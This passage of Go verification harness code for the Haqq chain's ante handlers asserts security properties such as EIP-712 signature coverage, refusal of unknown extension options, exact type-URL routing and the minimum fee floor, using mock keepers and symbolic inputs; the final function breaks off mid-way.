func VerifC06_Eip712ExtensionOptions() {
	addr := sdk.AccAddress([]byte{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20})
	urls := []string{"/ethermint.types.v1.ExtensionOptionsWeb3Tx", "/ethermint.types.v1.ExtensionOptionDynamicFeeTx", "/ethermint.evm.v1.ExtensionOptionsEthereumTx", "/some.unknown.ExtensionOption"}
	n := 1 + zz.Choose("options", zz.ParamInt("max", 3))
	var opts []*codectypes.Any
	for i := 0; i < n; i++ {
		u := 0
		if i > 0 { // the first option is the Web3Tx one (it selects this route); the others are arbitrary
			u = zz.Choose("opt"+string(rune('0'+i)), len(urls))
		}
		if u == 0 {
			a, err := codectypes.NewAnyWithValue(&haqqtypes.ExtensionOptionsWeb3Tx{TypedDataChainID: 11235, FeePayer: addr.String()})
			if err != nil {
				panic(err)
			}
			opts = append(opts, a)
		} else {
			opts = append(opts, &codectypes.Any{TypeUrl: urls[u]})
		}
	}
	tx := c06ExtTx{c03Tx: c03Tx{signer: addr}, opts: opts}
	err := VerifySignature(&ethsecp256k1.PubKey{Key: make([]byte, 33)}, authsigning.SignerData{ChainID: "haqq_11235-1"},
		&signing.SingleSignatureData{SignMode: signing.SignMode_SIGN_MODE_LEGACY_AMINO_JSON}, nil, tx)
	if n == 1 {
		zz.Assert(errors.Is(err, errC06TypedData), "a transaction with exactly the Web3Tx option gets as far as the typed data")
		zz.Reach("single")
	} else {
		zz.Assert(err != nil && errors.Is(err, errortypes.ErrUnknownExtensionOptions), "an EIP-712 transaction carrying any further extension option is rejected for its options, whatever and wherever it is")
		zz.Reach("extra")
	}
	zz.Reach("end")
}
