package cosmos

// Harness for property C03 on the legacy EIP-712 (ExtensionOptionsWeb3Tx) route: "a valid signature ... over exactly the
// transaction content". The real VerifySignature rebuilds the signed payload from the transaction; every field of the
// transaction that the chain acts on must reach that payload, or the transaction must be refused - otherwise the field can be
// changed by anybody after signing. Relational: two transactions that differ in exactly one field never hand the same
// payload to the typed-data construction.

import (
	"errors"

	codectypes "github.com/cosmos/cosmos-sdk/codec/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/types/tx/signing"
	authsigning "github.com/cosmos/cosmos-sdk/x/auth/signing"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"

	"github.com/haqq-network/haqq/crypto/ethsecp256k1"
	haqqtypes "github.com/haqq-network/haqq/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

type c03CovTx struct {
	c03Tx
	opts    []*codectypes.Any
	msgs    []sdk.Msg
	fee     sdk.Coins
	gas     uint64
	granter sdk.AccAddress
	memo    string
	timeout uint64
}

func (t c03CovTx) GetMsgs() []sdk.Msg                                { return t.msgs }
func (t c03CovTx) GetExtensionOptions() []*codectypes.Any            { return t.opts }
func (t c03CovTx) GetNonCriticalExtensionOptions() []*codectypes.Any { return nil }
func (t c03CovTx) GetFee() sdk.Coins                                 { return t.fee }
func (t c03CovTx) GetGas() uint64                                    { return t.gas }
func (t c03CovTx) FeeGranter() sdk.AccAddress                        { return t.granter }
func (t c03CovTx) GetMemo() string                                   { return t.memo }
func (t c03CovTx) GetTimeoutHeight() uint64                          { return t.timeout }

// c03Payload: what VerifySignature hands on for hashing, or "" when it refused the transaction before that point.
func c03Payload(tx c03CovTx, sd authsigning.SignerData) string {
	c06Captured = ""
	err := VerifySignature(&ethsecp256k1.PubKey{Key: make([]byte, 33)}, sd,
		&signing.SingleSignatureData{SignMode: signing.SignMode_SIGN_MODE_LEGACY_AMINO_JSON}, nil, tx)
	if !errors.Is(err, errC06TypedData) {
		return ""
	}
	return c06Captured
}

func VerifC03_Eip712LegacyCoverage() {
	addr := sdk.AccAddress([]byte{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20})
	other := sdk.AccAddress([]byte{3, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20})
	web3, err := codectypes.NewAnyWithValue(&haqqtypes.ExtensionOptionsWeb3Tx{TypedDataChainID: 11235, FeePayer: addr.String()})
	if err != nil {
		panic(err)
	}
	send := func(n int64) sdk.Msg {
		return banktypes.NewMsgSend(addr, other, sdk.NewCoins(sdk.NewInt64Coin("aISLM", n)))
	}
	a := c03CovTx{c03Tx: c03Tx{signer: addr}, opts: []*codectypes.Any{web3}, msgs: []sdk.Msg{send(1)},
		fee: sdk.NewCoins(sdk.NewInt64Coin("aISLM", 10)), gas: 100000}
	if zz.AnyBool("base.granterSet") {
		a.granter = other
	}
	if zz.AnyBool("base.memoSet") {
		a.memo = "memo"
	}
	sd := authsigning.SignerData{ChainID: "haqq_11235-1", AccountNumber: 7, Sequence: 3}
	b, sdB := a, sd
	field := zz.Choose("mutatedField", 9)
	switch field {
	case 0:
		b.fee = sdk.NewCoins(sdk.NewInt64Coin("aISLM", 11))
	case 1:
		b.gas = 100001
	case 2: // fee granter: set, removed or replaced
		if a.granter == nil {
			b.granter = other
		} else if zz.AnyBool("granterReplaced") {
			b.granter = addr
		} else {
			b.granter = nil
		}
	case 3:
		b.memo = a.memo + "x"
	case 4:
		b.timeout = 5
	case 5:
		b.msgs = []sdk.Msg{send(2)}
	case 6:
		sdB.Sequence = 4
	case 7:
		sdB.AccountNumber = 8
	default:
		sdB.ChainID = "haqq_54211-3"
		w, err := codectypes.NewAnyWithValue(&haqqtypes.ExtensionOptionsWeb3Tx{TypedDataChainID: 54211, FeePayer: addr.String()})
		if err != nil {
			panic(err)
		}
		b.opts = []*codectypes.Any{w}
	}
	pa := c03Payload(a, sd)
	pb := c03Payload(b, sdB)
	if pa != "" {
		zz.Reach("?base-accepted")
	}
	zz.Assert(pa == "" || pb == "" || pa != pb, "two transactions differing in one field the chain acts on never share the signed payload (or one of them is refused)")
	zz.Reach("end")
}
