package cosmos

// Harness for property C03, legacy EIP-712 route: what the sequence / chain-id binding of the decorator is, with the
// cryptographic verification (VerifySignature: typed-data hash + secp256k1) replaced by a recorder.

import (
	"errors"

	cryptotypes "github.com/cosmos/cosmos-sdk/crypto/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	txtypes "github.com/cosmos/cosmos-sdk/types/tx"
	"github.com/cosmos/cosmos-sdk/types/tx/signing"
	authsigning "github.com/cosmos/cosmos-sdk/x/auth/signing"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"

	"github.com/haqq-network/haqq/crypto/ethsecp256k1"
	zz "github.com/haqq-network/haqq/zzverif"
)

//verif:override github.com/haqq-network/haqq/app/ante/cosmos.VerifySignature -> c03VerifySignature except=VerifC06_Eip712ExtensionOptions,VerifC03_Eip712LegacyCoverage

var c03 struct {
	calls  int
	data   authsigning.SignerData
	accept bool
}

func c03VerifySignature(pubKey cryptotypes.PubKey, signerData authsigning.SignerData, sigData signing.SignatureData, h authsigning.SignModeHandler, tx authsigning.Tx) error {
	c03.calls++
	c03.data = signerData
	if c03.accept {
		return nil
	}
	return errors.New("signature does not match")
}

type c03AK struct{ acc authtypes.AccountI }

func (a c03AK) NewAccountWithAddress(ctx sdk.Context, addr sdk.AccAddress) authtypes.AccountI { return nil }
func (a c03AK) GetModuleAddress(moduleName string) sdk.AccAddress                            { return nil }
func (a c03AK) GetAllAccounts(ctx sdk.Context) []authtypes.AccountI                          { return nil }
func (a c03AK) IterateAccounts(ctx sdk.Context, cb func(account authtypes.AccountI) bool)    {}
func (a c03AK) GetSequence(sdk.Context, sdk.AccAddress) (uint64, error)                      { return a.acc.GetSequence(), nil }
func (a c03AK) GetAccount(ctx sdk.Context, addr sdk.AccAddress) authtypes.AccountI {
	if a.acc.GetAddress().Equals(addr) {
		return a.acc
	}
	return nil
}
func (a c03AK) SetAccount(ctx sdk.Context, account authtypes.AccountI)    {}
func (a c03AK) RemoveAccount(ctx sdk.Context, account authtypes.AccountI) {}
func (a c03AK) GetParams(ctx sdk.Context) authtypes.Params                { return authtypes.DefaultParams() }

type c03Tx struct {
	signer sdk.AccAddress
	sigs   []signing.SignatureV2
}

func (t c03Tx) GetMsgs() []sdk.Msg                                { return nil }
func (t c03Tx) ValidateBasic() error                              { return nil }
func (t c03Tx) GetSigners() []sdk.AccAddress                      { return []sdk.AccAddress{t.signer} }
func (t c03Tx) GetPubKeys() ([]cryptotypes.PubKey, error)         { return nil, nil }
func (t c03Tx) GetSignaturesV2() ([]signing.SignatureV2, error)   { return t.sigs, nil }
func (t c03Tx) GetMemo() string                                   { return "" }
func (t c03Tx) GetGas() uint64                                    { return 0 }
func (t c03Tx) GetFee() sdk.Coins                                 { return nil }
func (t c03Tx) FeePayer() sdk.AccAddress                          { return t.signer }
func (t c03Tx) FeeGranter() sdk.AccAddress                        { return nil }
func (t c03Tx) GetTip() *txtypes.Tip                              { return nil }
func (t c03Tx) GetTimeoutHeight() uint64                          { return 0 }

// VerifC03_Eip712Sequence: the legacy EIP-712 decorator lets a transaction through only if the signature was made for the
// account's CURRENT sequence, and what it hands to the cryptographic check is (this chain id, the account number, the
// current sequence) - so a signature for another chain id or another sequence cannot verify.
func VerifC03_Eip712Sequence() {
	addr := sdk.AccAddress([]byte{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20})
	acc := authtypes.NewBaseAccountWithAddress(addr)
	seq := zz.AnyUint64("accountSequence")
	accNum := zz.AnyUint64("accountNumber")
	_ = acc.SetSequence(seq)
	_ = acc.SetAccountNumber(accNum)
	_ = acc.SetPubKey(&ethsecp256k1.PubKey{Key: make([]byte, 33)})
	sigSeq := zz.AnyUint64("signatureSequence")
	height := zz.AnyInt64In("height", 0, 1<<40)
	c03.calls, c03.accept = 0, zz.AnyBool("signatureVerifies")
	nsigs := 1 + zz.Choose("extraSignature", 2)
	var sigs []signing.SignatureV2
	for i := 0; i < nsigs; i++ {
		sigs = append(sigs, signing.SignatureV2{Data: &signing.SingleSignatureData{SignMode: signing.SignMode_SIGN_MODE_LEGACY_AMINO_JSON}, Sequence: sigSeq})
	}
	dec := NewLegacyEip712SigVerificationDecorator(c03AK{acc: acc}, nil)
	ctx := sdk.Context{}.WithBlockHeader(tmproto.Header{Height: height, ChainID: "haqq_11235-1"}).WithChainID("haqq_11235-1")
	called := false
	next := func(ctx sdk.Context, tx sdk.Tx, sim bool) (sdk.Context, error) { called = true; return ctx, nil }
	_, err := dec.AnteHandle(ctx, c03Tx{signer: addr, sigs: sigs}, false, next)
	zz.Assert(zz.Iff(err == nil, called), "the decorator either rejects or passes the transaction on")
	if called {
		zz.Assert(nsigs == 1, "exactly one signature")
		zz.Assert(sigSeq == seq, "accepted => the signature was made for the account's current sequence number")
		zz.Assert(c03.calls == 1 && c03.accept, "accepted => the cryptographic check ran once and succeeded")
		zz.Assert(c03.data.Sequence == seq, "the signed payload that is checked carries the account's current sequence")
		zz.Assert(c03.data.ChainID == "haqq_11235-1", "the signed payload that is checked carries this chain's id")
		zz.Assert(zz.Implies(height > 0, c03.data.AccountNumber == accNum), "the signed payload carries the account number")
		zz.Reach("accepted")
	} else {
		zz.Assert(zz.Implies(zz.And(nsigs == 1, sigSeq == seq), !c03.accept), "a correctly sequenced, verifying signature is not rejected")
	}
	zz.Reach("end")
}
