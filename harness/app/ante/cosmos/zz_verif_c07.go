package cosmos

// Harness for property C07 (fee floor on the Cosmos routes): MinGasPriceDecorator.

import (
	"math/big"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core"
	"github.com/ethereum/go-ethereum/core/vm"
	"github.com/ethereum/go-ethereum/params"

	"github.com/haqq-network/haqq/x/evm/statedb"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
	feemarkettypes "github.com/haqq-network/haqq/x/feemarket/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

type c07EVMKeeper struct{}

func (k c07EVMKeeper) GetAccount(ctx sdk.Context, addr common.Address) *statedb.Account { panic("not used") }
func (k c07EVMKeeper) GetState(ctx sdk.Context, addr common.Address, key common.Hash) common.Hash {
	panic("not used")
}
func (k c07EVMKeeper) GetCode(ctx sdk.Context, codeHash common.Hash) []byte { panic("not used") }
func (k c07EVMKeeper) ForEachStorage(ctx sdk.Context, addr common.Address, cb func(key, value common.Hash) bool) {
	panic("not used")
}
func (k c07EVMKeeper) SetAccount(ctx sdk.Context, addr common.Address, account statedb.Account) error {
	panic("not used")
}
func (k c07EVMKeeper) SetState(ctx sdk.Context, addr common.Address, key common.Hash, value []byte) {
	panic("not used")
}
func (k c07EVMKeeper) SetCode(ctx sdk.Context, codeHash []byte, code []byte)    { panic("not used") }
func (k c07EVMKeeper) DeleteAccount(ctx sdk.Context, addr common.Address) error { panic("not used") }
func (k c07EVMKeeper) ChainID() *big.Int                                        { return big.NewInt(11235) }
func (k c07EVMKeeper) GetParams(ctx sdk.Context) evmtypes.Params                { return evmtypes.DefaultParams() }
func (k c07EVMKeeper) GetBaseFee(ctx sdk.Context, ethCfg *params.ChainConfig) *big.Int { return nil }
func (k c07EVMKeeper) NewEVM(ctx sdk.Context, msg core.Message, cfg *statedb.EVMConfig, tracer vm.EVMLogger, stateDB vm.StateDB) *vm.EVM {
	panic("not used")
}
func (k c07EVMKeeper) DeductTxCostsFromUserBalance(ctx sdk.Context, fees sdk.Coins, from common.Address) error {
	panic("not used")
}
func (k c07EVMKeeper) GetBalance(ctx sdk.Context, addr common.Address) *big.Int { panic("not used") }
func (k c07EVMKeeper) ResetTransientGasUsed(ctx sdk.Context)                    {}
func (k c07EVMKeeper) GetTxIndexTransient(ctx sdk.Context) uint64               { return 0 }

type c07FeeMarket struct{ minGasPrice sdk.Dec }

func (f c07FeeMarket) GetParams(ctx sdk.Context) feemarkettypes.Params {
	p := feemarkettypes.DefaultParams()
	p.MinGasPrice = f.minGasPrice
	return p
}
func (f c07FeeMarket) AddTransientGasWanted(ctx sdk.Context, gasWanted uint64) (uint64, error) { return 0, nil }
func (f c07FeeMarket) GetBaseFeeEnabled(ctx sdk.Context) bool                                  { return true }

type c07FeeTx struct {
	gas uint64
	fee sdk.Coins
}

func (t c07FeeTx) GetMsgs() []sdk.Msg         { return nil }
func (t c07FeeTx) ValidateBasic() error       { return nil }
func (t c07FeeTx) GetGas() uint64             { return t.gas }
func (t c07FeeTx) GetFee() sdk.Coins          { return t.fee }
func (t c07FeeTx) FeePayer() sdk.AccAddress   { return nil }
func (t c07FeeTx) FeeGranter() sdk.AccAddress { return nil }

// VerifC07_CosmosFloor: a Cosmos transaction passes the min-gas-price decorator (outside simulation) only if its fee in the
// EVM denomination is at least ceil(gasLimit x minimum gas price).
func VerifC07_CosmosFloor() {
	minGP := zz.AnyDecRaw("minGasPrice", "0", "1000000000000000000000000000000000000000000")
	gas := zz.AnyUint64In("gas", 0, 1<<62)
	var fee sdk.Coins
	shape := zz.Choose("feeShape", 5)
	switch shape {
	case 0:
		fee = nil
	case 1:
		fee = sdk.Coins{}
	case 2:
		fee = sdk.Coins{sdk.Coin{Denom: "aISLM", Amount: zz.AnyAmount("fee.aISLM", 200)}}
	case 3:
		fee = sdk.Coins{sdk.Coin{Denom: "stake", Amount: zz.AnyAmount("fee.stake", 200)}}
	default:
		fee = sdk.Coins{sdk.Coin{Denom: "aISLM", Amount: zz.AnyAmount("fee.aISLM", 200)}, sdk.Coin{Denom: "ibc/other", Amount: zz.AnyAmount("fee.other", 200)}}
	}
	simulate := zz.AnyBool("simulate")
	dec := NewMinGasPriceDecorator(c07FeeMarket{minGasPrice: minGP}, c07EVMKeeper{})
	called := false
	next := func(ctx sdk.Context, tx sdk.Tx, sim bool) (sdk.Context, error) { called = true; return ctx, nil }
	_, err := dec.AnteHandle(sdk.Context{}, c07FeeTx{gas: gas, fee: fee}, simulate, next)
	zz.Assert(zz.Iff(err == nil, called), "the decorator either rejects or passes the transaction on")
	required := minGP.Mul(sdkmath.LegacyNewDecFromBigInt(new(big.Int).SetUint64(gas))).Ceil().RoundInt()
	paid := sdkmath.ZeroInt()
	if shape == 2 || shape == 4 {
		paid = fee[0].Amount
	}
	if called && !simulate {
		zz.Assert(paid.GTE(required), "accepted in a block => fee in the EVM denomination >= ceil(gasLimit x minimum gas price)")
		zz.Assert(shape != 4, "only the native fee token is accepted")
		zz.Reach("accepted")
	}
	if !called && !simulate && shape == 2 && required.IsPositive() {
		// (with a zero floor, e.g. gas limit 0, the decorator refuses every fee: over-strict, not a violation of the property)
		zz.Assert(paid.LT(required) || paid.IsZero(), "a native-token fee that covers a positive floor is not rejected by this check")
	}
	zz.Reach("end")
}
