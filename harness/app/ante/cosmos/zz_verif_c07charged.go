package cosmos

// Harness for property C07 on the Cosmos route, what is actually paid: MinGasPriceDecorator checks the fee the transaction
// declares, DeductFeeDecorator then charges what the dynamic fee checker returns - for a transaction carrying the
// dynamic-fee extension option min(base fee + max priority price, fee cap) x gas. Accepted by both => the fee charged is at
// least gasLimit x the network minimum gas price.

import (
	"math/big"

	sdkmath "cosmossdk.io/math"
	codectypes "github.com/cosmos/cosmos-sdk/codec/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/ethereum/go-ethereum/params"

	evmante "github.com/haqq-network/haqq/app/ante/evm"
	haqqtypes "github.com/haqq-network/haqq/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

type c07BaseFeeKeeper struct {
	c07EVMKeeper
	baseFee *big.Int
}

func (k c07BaseFeeKeeper) GetBaseFee(ctx sdk.Context, ethCfg *params.ChainConfig) *big.Int { return k.baseFee }

type c07DynTx struct {
	c07FeeTx
	opts []*codectypes.Any
}

func (t c07DynTx) GetExtensionOptions() []*codectypes.Any            { return t.opts }
func (t c07DynTx) GetNonCriticalExtensionOptions() []*codectypes.Any { return nil }

func VerifC07_CosmosCharged() {
	minGP := zz.AnyDecRaw("minGasPrice", "0", "1000000000000000000000000000000")
	gas := []uint64{1, 3, 21000, 1000003}[zz.Choose("gas", 4)] // concrete: price x gas with both symbolic is out of the solvers' reach
	declared := zz.AnyAmount("declaredFee", 120)
	baseFee := zz.AnyBigAmount("baseFee", 64) // 0 when the fee market is switched off (NoBaseFee) on a London chain
	tx := c07DynTx{c07FeeTx: c07FeeTx{gas: gas, fee: sdk.Coins{sdk.Coin{Denom: "aISLM", Amount: declared}}}}
	hasOpt := zz.AnyBool("dynamicFeeOption")
	if hasOpt {
		a, err := codectypes.NewAnyWithValue(&haqqtypes.ExtensionOptionDynamicFeeTx{MaxPriorityPrice: zz.AnyAmount("maxPriorityPrice", 64)})
		if err != nil {
			panic(err)
		}
		tx.opts = []*codectypes.Any{a}
	}
	k := c07BaseFeeKeeper{baseFee: baseFee}
	ctx := sdk.Context{}.WithBlockHeight(10) // DeliverTx
	called := false
	next := func(c sdk.Context, t sdk.Tx, sim bool) (sdk.Context, error) { called = true; return c, nil }
	if _, err := NewMinGasPriceDecorator(c07FeeMarket{minGasPrice: minGP}, k).AnteHandle(ctx, tx, false, next); err != nil || !called {
		zz.Reach("below-declared-floor")
		return
	}
	charged, _, err := evmante.NewDynamicFeeChecker(k)(ctx, tx)
	if err != nil {
		zz.Reach("refused-by-fee-checker")
		return
	}
	// the checker charges an integer price (fee cap = declared / gas, truncated) x gas, so up to gas-1 base units of the
	// declared fee and the fractional part of the minimum price are rounding; the floor asserted is the whole-unit price
	floor := minGP.TruncateInt().Mul(sdkmath.NewIntFromUint64(gas))
	shape := ""
	if sdkmath.NewIntFromBigInt(baseFee).ToLegacyDec().LT(minGP) {
		shape = " [shape C07-F1 base fee below the minimum gas price]"
	}
	zz.ObserveInt("charged", charged.AmountOf("aISLM"))
	zz.Assert(charged.AmountOf("aISLM").GTE(floor), "an accepted Cosmos transaction is charged at least gasLimit x the (whole-unit) network minimum gas price"+shape)
	zz.Assert(charged.AmountOf("aISLM").LTE(declared), "never more than the fee it declared")
	if hasOpt {
		zz.Reach("?with-option")
	}
	zz.Reach("end")
}
