package ante

// Harness for property C06, extension options on the Cosmos route: "transactions carrying an unknown extension option are
// rejected" - wherever in the list the option sits. The router only looks at the first option to choose the route; the
// remaining options are the route's own responsibility.

import (
	"errors"

	codectypes "github.com/cosmos/cosmos-sdk/codec/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	errortypes "github.com/cosmos/cosmos-sdk/types/errors"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"

	"github.com/cosmos/gogoproto/proto"

	haqqtypes "github.com/haqq-network/haqq/types"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

type c06GasTx struct{ c06Tx }

func (t c06GasTx) GetGas() uint64 { return 100000 }

// VerifC06_ExtensionOptions: a plain or dynamic-fee Cosmos transaction with <= 3 extension options is refused with
// ErrUnknownExtensionOptions exactly when some option (at any position) is not the dynamic-fee option the route supports.
func VerifC06_ExtensionOptions() {
	urls := []string{"/ethermint.types.v1.ExtensionOptionDynamicFeeTx", "/ethermint.evm.v1.ExtensionOptionsEthereumTx", "/ethermint.types.v1.ExtensionOptionsWeb3Tx", "/some.unknown.ExtensionOption"}
	n := zz.Choose("options", zz.ParamInt("max", 3)+1)
	var opts []*codectypes.Any
	foreign := false
	for i := 0; i < n; i++ {
		u := 0
		if i > 0 {
			// the first option is the dynamic-fee option (it selects the Cosmos route); the others are arbitrary
			u = zz.Choose("opt"+string(rune('0'+i)), len(urls))
		}
		if u == 0 {
			dyn, err := codectypes.NewAnyWithValue(&haqqtypes.ExtensionOptionDynamicFeeTx{MaxPriorityPrice: sdk.ZeroInt()})
			if err != nil {
				panic(err)
			}
			opts = append(opts, dyn)
		} else {
			// foreign options carry their decoded value, as after decoding a transaction from wire bytes
			var v proto.Message
			switch u {
			case 1:
				v = &evmtypes.ExtensionOptionsEthereumTx{}
			case 2:
				v = &haqqtypes.ExtensionOptionsWeb3Tx{TypedDataChainID: 11235}
			default:
				v = &banktypes.MsgSend{} // stands for any other registered message type used as an option
			}
			a, err := codectypes.NewAnyWithValue(v)
			if err != nil {
				panic(err)
			}
			opts = append(opts, a)
		}
		if u != 0 {
			foreign = true
		}
	}
	msg := banktypes.NewMsgSend(c06Addr, c06Addr, sdk.NewCoins(sdk.NewInt64Coin("aISLM", 1)))
	tx := c06GasTx{c06Tx{msgs: []sdk.Msg{msg}, opts: opts}}
	h := NewAnteHandler(HandlerOptions{ExtensionOptionChecker: haqqtypes.HasDynamicFeeExtensionOption})
	var err error
	panicked := zz.Try(func() { _, err = h(sdk.Context{}, tx, false) })
	refused := !panicked && errors.Is(err, errortypes.ErrUnknownExtensionOptions)
	if foreign {
		zz.Assert(refused, "a Cosmos transaction carrying an extension option its route does not support is rejected, at any position in the list")
		zz.Reach("foreign-option")
	} else {
		// only supported options: the extension check lets it through (later decorators need keepers this harness does not provide)
		zz.Assert(!refused, "a transaction with only the dynamic-fee option (or none) is not rejected for its extension options")
		zz.Reach("supported-only")
	}
	zz.Reach("end")
}
