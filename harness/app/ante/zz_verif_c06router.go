package ante

// Harness for property C06 at the router: the route is chosen from the type URL of the first extension option, and the
// Ethereum route itself only counts the options. "Unknown extension options are rejected" therefore rests on the router
// matching the three known type URLs exactly: anything else - including a URL that merely ends in a known name - is refused
// before a route is built.

import (
	"errors"

	codectypes "github.com/cosmos/cosmos-sdk/codec/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	errortypes "github.com/cosmos/cosmos-sdk/types/errors"
	authante "github.com/cosmos/cosmos-sdk/x/auth/ante"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"

	cosmosante "github.com/haqq-network/haqq/app/ante/cosmos"
	evmante "github.com/haqq-network/haqq/app/ante/evm"
	zz "github.com/haqq-network/haqq/zzverif"
)

func VerifC06_RouterExactTypeURL() {
	names := []string{"ethermint.evm.v1.ExtensionOptionsEthereumTx", "ethermint.types.v1.ExtensionOptionsWeb3Tx", "ethermint.types.v1.ExtensionOptionDynamicFeeTx"}
	which := zz.Choose("name", len(names))
	// spellings of the type URL: exact; with a host; with a path; double slash; no slash at all; trailing slash; upper case
	spelling := zz.Choose("spelling", 7)
	url := "/" + names[which]
	switch spelling {
	case 1:
		url = "unknown.host/" + names[which]
	case 2:
		url = "/evil/" + names[which]
	case 3:
		url = "//" + names[which]
	case 4:
		url = names[which]
	case 5:
		url = "/" + names[which] + "/"
	case 6:
		url = "/ETHERMINT" + names[which][len("ethermint"):]
	}
	opts := []*codectypes.Any{{TypeUrl: url}}
	if zz.AnyBool("secondOption") {
		opts = append(opts, &codectypes.Any{TypeUrl: "/" + names[zz.Choose("secondName", len(names))]})
	}
	msg := banktypes.NewMsgSend(c06Addr, c06Addr, sdk.NewCoins(sdk.NewInt64Coin("aISLM", 1)))
	tx := c06GasTx{c06Tx{msgs: []sdk.Msg{msg}, opts: opts}}
	c17Captured = nil
	_, err := NewAnteHandler(HandlerOptions{})(sdk.Context{}, tx, false)
	if spelling == 0 {
		zz.Assert(err == nil && len(c17Captured) > 0, "an exactly spelled known first option selects a route")
		isEth := c17Has(c17Captured, func(d sdk.AnteDecorator) bool { _, ok := d.(evmante.EthSigVerificationDecorator); return ok })
		isLegacy := c17Has(c17Captured, func(d sdk.AnteDecorator) bool { _, ok := d.(cosmosante.LegacyEip712SigVerificationDecorator); return ok })
		isCosmos := c17Has(c17Captured, func(d sdk.AnteDecorator) bool { _, ok := d.(authante.SigVerificationDecorator); return ok })
		zz.Assert(isEth == (which == 0) && isLegacy == (which == 1) && isCosmos == (which == 2), "each known option selects its own route and no other")
		zz.Reach("routed")
	} else {
		zz.Assert(errors.Is(err, errortypes.ErrUnknownExtensionOptions) && len(c17Captured) == 0,
			"a first extension option whose type URL is not exactly one of the three known ones is rejected before any route is built")
		zz.Reach("refused")
	}
	zz.Reach("end")
}
