package ante

// Harness for property C17 at the ante chains: the gas figure fed to the base fee is max(gasWanted x minGasMultiplier,
// gasUsed), and gasWanted is accumulated by GasWantedDecorator while transactions pass the ante handler. Every route a
// transaction can take - Ethereum, Cosmos, legacy EIP-712 - therefore has to carry that decorator; a route without it lets
// declared (and paid-for) gas go uncounted. The real chain constructors are executed and the decorator lists they hand to
// sdk.ChainAnteDecorators are inspected.

import (
	sdk "github.com/cosmos/cosmos-sdk/types"

	"github.com/cosmos/cosmos-sdk/x/auth/ante"

	cosmosante "github.com/haqq-network/haqq/app/ante/cosmos"
	evmante "github.com/haqq-network/haqq/app/ante/evm"
	zz "github.com/haqq-network/haqq/zzverif"
)

//verif:override github.com/cosmos/cosmos-sdk/types.ChainAnteDecorators -> c17Chain except=VerifC06_Routes,VerifC06_ExtensionOptions

var c17Captured []sdk.AnteDecorator

func c17Chain(chain ...sdk.AnteDecorator) sdk.AnteHandler {
	c17Captured = chain
	return func(ctx sdk.Context, tx sdk.Tx, simulate bool) (sdk.Context, error) { return ctx, nil }
}

func c17HasGasWanted(chain []sdk.AnteDecorator) bool {
	for _, d := range chain {
		if _, ok := d.(evmante.GasWantedDecorator); ok {
			return true
		}
	}
	return false
}

func VerifC17_EveryRouteRecordsGasWanted() {
	opts := HandlerOptions{}
	route := zz.Choose("route", 3)
	c17Captured = nil
	switch route {
	case 0:
		newEVMAnteHandler(opts)
	case 1:
		newCosmosAnteHandler(opts)
	default:
		newLegacyCosmosAnteHandlerEip712(opts)
	}
	zz.Assert(len(c17Captured) > 0, "the route is a chain of decorators")
	zz.Assert(c17HasGasWanted(c17Captured), "every ante route (Ethereum, Cosmos, legacy EIP-712) accumulates the declared gas of its transactions (GasWantedDecorator)")
	zz.Reach("end")
}

// c17Has reports whether the chain contains a decorator accepted by is.
func c17Has(chain []sdk.AnteDecorator, is func(sdk.AnteDecorator) bool) bool {
	for _, d := range chain {
		if is(d) {
			return true
		}
	}
	return false
}

// VerifAnteRouteComposition: each route is made of the decorators the properties rest on. Per route: the blockers and option
// checks of C06, the fee floor and fee deduction of C07, signature verification and sequence increment of C03, the vesting
// guard of C08 on the Ethereum route, the gas-wanted accumulation of C17.
func VerifAnteRouteComposition() {
	opts := HandlerOptions{}
	route := zz.Choose("route", 3)
	c17Captured = nil
	switch route {
	case 0:
		newEVMAnteHandler(opts)
		ch := c17Captured
		zz.Assert(c17Has(ch, func(d sdk.AnteDecorator) bool { _, ok := d.(evmante.EthMinGasPriceDecorator); return ok }), "Ethereum route: fee floor (C07)")
		zz.Assert(c17Has(ch, func(d sdk.AnteDecorator) bool { _, ok := d.(evmante.EthValidateBasicDecorator); return ok }), "Ethereum route: basic validation incl. the extension option count (C06)")
		zz.Assert(c17Has(ch, func(d sdk.AnteDecorator) bool { _, ok := d.(evmante.EthSigVerificationDecorator); return ok }), "Ethereum route: signature verification (C03)")
		zz.Assert(c17Has(ch, func(d sdk.AnteDecorator) bool { _, ok := d.(evmante.EthAccountVerificationDecorator); return ok }), "Ethereum route: account / balance verification")
		zz.Assert(c17Has(ch, func(d sdk.AnteDecorator) bool { _, ok := d.(evmante.CanTransferDecorator); return ok }), "Ethereum route: CanTransfer incl. the base fee check (C07)")
		zz.Assert(c17Has(ch, func(d sdk.AnteDecorator) bool { _, ok := d.(evmante.EthVestingTransactionDecorator); return ok }), "Ethereum route: vesting guard (C08)")
		zz.Assert(c17Has(ch, func(d sdk.AnteDecorator) bool { _, ok := d.(evmante.EthGasConsumeDecorator); return ok }), "Ethereum route: up-front fee deduction (C07)")
		zz.Assert(c17Has(ch, func(d sdk.AnteDecorator) bool { _, ok := d.(evmante.EthIncrementSenderSequenceDecorator); return ok }), "Ethereum route: nonce check and increment (C03)")
